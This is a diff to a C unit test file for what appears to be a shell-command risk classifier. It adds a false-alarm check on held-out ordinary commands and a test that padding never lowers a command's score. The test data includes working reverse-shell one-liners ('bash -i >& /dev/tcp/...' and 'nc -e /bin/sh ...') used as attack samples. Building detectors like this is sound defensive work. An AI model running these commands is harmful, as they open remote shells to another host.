@@ -36,7 +36,8 @@ static void add(struct rv_lines *set, const char *text)
     rv_assert_ok(rv_lines_add(set, &line));
 }
 
-static void make_sets(struct rv_lines *normal, struct rv_lines *attack)
+/** Ordinary lines: every seventh is kept for testing. */
+static void make_normal(struct rv_lines *learnt, struct rv_lines *kept)
 {
     static const char *const verbs[] = { "ls", "cat", "grep foo", "wc", "sort", "head", "du" };
     static const char *const options[] = { "-l", "-n", "-r", "--all", "-h", "" };
@@ -47,10 +48,19 @@ static void make_sets(struct rv_lines *normal, struct rv_lines *attack)
         for (size_t o = 0; o < RV_COUNT(options); o++) {
             for (size_t n = 0; n < RV_COUNT(names); n++) {
                 (void)snprintf(text, sizeof(text), "%s %s %s", verbs[v], options[o], names[n]);
-                add(normal, text);
+                add((v + o + n) % 7 ? learnt : kept, text);
             }
         }
     }
+}
+
+static void make_sets(struct rv_lines *normal, struct rv_lines *attack)
+{
+    struct rv_lines kept = { 0 };
+    char text[128];
+
+    make_normal(normal, &kept);
+    rv_lines_done(&kept);
     for (unsigned port = 4000; port < 4012; port++) {
         (void)snprintf(text, sizeof(text), "bash -i >& /dev/tcp/10.0.0.%u/%u 0>&1", port % 250,
                        port);
@@ -68,6 +78,56 @@ static uint32_t risk_of(const struct rv_text_model *model, const char *text)
     return score.risk;
 }
 
+static unsigned false_alarms(const struct rv_text_model *model)
+{
+    struct rv_lines learnt = { 0 }, kept = { 0 };
+    unsigned count = 0;
+
+    make_normal(&learnt, &kept);
+    for (size_t i = 0; i < kept.count; i++)
+        count += risk_of(model, kept.items[i].text) >= 200;
+    assert_int_equal(kept.count, 30);
+    rv_lines_done(&learnt);
+    rv_lines_done(&kept);
+    return count;
+}
+
+static double raw_of(const struct rv_text_model *model, const char *text)
+{
+    struct rv_score score;
+
+    rv_assert_ok(rv_text_score(model, rv_span_str(text), &score));
+    return score.raw;
+}
+
+static void text_around_a_command_never_lowers_its_score(void **state)
+{
+    static const char *const commands[] = { "bash -i >& /dev/tcp/10.9.8.7/443 0>&1",
+                                            "nc -e /bin/sh 10.1.0.77 4010", "du -h src/main.c" };
+    static const char *const pads[] = { "file", "; ls -l file", "# wc -l a b", "| sort",
+                                        "&& true" };
+    const struct rv_task_options options = { .seed = 1 };
+    struct rv_lines normal = { 0 }, attack = { 0 };
+    struct rv_text_model *model = NULL;
+    char text[512];
+
+    make_sets(&normal, &attack);
+    rv_assert_ok(rv_text_train(&model, &normal, &attack, &options));
+    for (size_t c = 0; c < RV_COUNT(commands); c++) {
+        double alone = raw_of(model, commands[c]);
+
+        for (size_t p = 0; p < RV_COUNT(pads); p++) {
+            (void)snprintf(text, sizeof(text), "%s %s %s", commands[c], pads[p], pads[p]);
+            assert_true(raw_of(model, text) >= alone - 1e-9);
+            (void)snprintf(text, sizeof(text), "ls -n file ; %s", commands[c]);
+            assert_true(raw_of(model, text) >= alone - 1e-9);
+        }
+    }
+    rv_text_model_free(&model);
+    rv_lines_done(&normal);
+    rv_lines_done(&attack);
+}
+
 static void attacks_are_found_padded_or_not(void **state)
 {
     const struct rv_task_options options = { .seed = 1 };
@@ -81,7 +141,7 @@ static void attacks_are_found_padded_or_not(void **state)
     assert_in_range(risk_of(model, "ls -l file ; cat -n src/main.c && bash -i >& "
                                    "/dev/tcp/192.168.7.9/9001 0>&1 | wc -h a b ; du -h *.txt"),
                     200, 300);
-    assert_in_range(risk_of(model, "sort -r /var/log/kern.log"), 0, 150);
+    assert_in_range(false_alarms(model), 0, 2); /* of 30; nominal 0.3 */
     assert_int_equal(risk_of(model, ""), 0);
     assert_in_range(rv_text_explain(model, rv_span_str("ls ; nc -e /bin/sh 1.2.3.4 99"), reasons,
                                     RV_COUNT(reasons)),
@@ -123,6 +183,7 @@ int main(void)
 {
     const struct CMUnitTest tests[] = {
         cmocka_unit_test(a_skeleton_masks_names_numbers_and_texts),
+        cmocka_unit_test(text_around_a_command_never_lowers_its_score),
         cmocka_unit_test(attacks_are_found_padded_or_not),
         cmocka_unit_test(saving_changes_nothing_and_damage_is_refused),
     };
